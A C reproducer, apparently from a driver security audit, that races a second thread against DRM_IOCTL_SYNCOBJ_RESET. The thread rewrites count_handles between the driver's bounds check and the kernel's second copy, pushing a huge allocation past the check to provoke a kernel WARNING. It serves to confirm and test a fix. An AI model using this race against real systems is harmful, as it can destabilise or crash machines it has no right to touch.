// SPDX-License-Identifier: GPL-2.0-only
/*
 * repro_syncobj_count_race.c - finding F1b: the driver bounds
 * count_handles of the core syncobj array ioctls (F1's fix) by reading it
 * from user memory before drm_ioctl() copies the argument again; a second
 * thread that rewrites count_handles in between gets a huge count past the
 * check, and drm_syncobj_array_find()'s kmalloc_array() still WARNs in the
 * page allocator (not only -ENOMEM).  One thread calls SYNCOBJ_RESET, the
 * other flips count_handles between 1 and 2^21.  Exit 1 if the kernel log
 * shows the warning within the time bound.
 */
#include <pthread.h>

#include "repro.h"

static struct drm_syncobj_array arg;
static volatile int stop;

static void *flipper(void *unused)
{
	(void)unused;
	while (!stop) {
		__atomic_store_n(&arg.count_handles, 1u << 21, __ATOMIC_RELAXED);
		__atomic_store_n(&arg.count_handles, 1, __ATOMIC_RELAXED);
	}
	return NULL;
}

int main(void)
{
	__u32 h[1] = { 0 };
	int fd = repro_open(), warned = 0, ret, n;
	long calls[3] = { 0 };
	pthread_t t;
	__s64 end;

	if (sushi_syncobj_create(fd, &h[0]))
		return 2;
	arg.handles = (uintptr_t)h;
	repro_kmsg_mark();
	pthread_create(&t, NULL, flipper, NULL);
	end = sushi_deadline_ms(30000);
	for (n = 0; sushi_now_ns() < end; n++) {
		ret = ioctl(fd, DRM_IOCTL_SYNCOBJ_RESET, &arg) ? errno : 0;
		calls[ret == 0 ? 0 : ret == EINVAL ? 1 : 2]++;
		if ((n & 1023) == 0 && repro_kmsg_has("WARNING:")) {
			warned = 1;
			break;
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	if (!warned)
		warned = repro_kmsg_has("WARNING:");
	printf("%d SYNCOBJ_RESET calls: %ld ok, %ld EINVAL (bounded), %ld other (ENOMEM: past the bound)\n",
	       n, calls[0], calls[1], calls[2]);
	printf("kernel log: %s\n", warned ? "a WARNING" : "no WARNING");
	return warned;
}
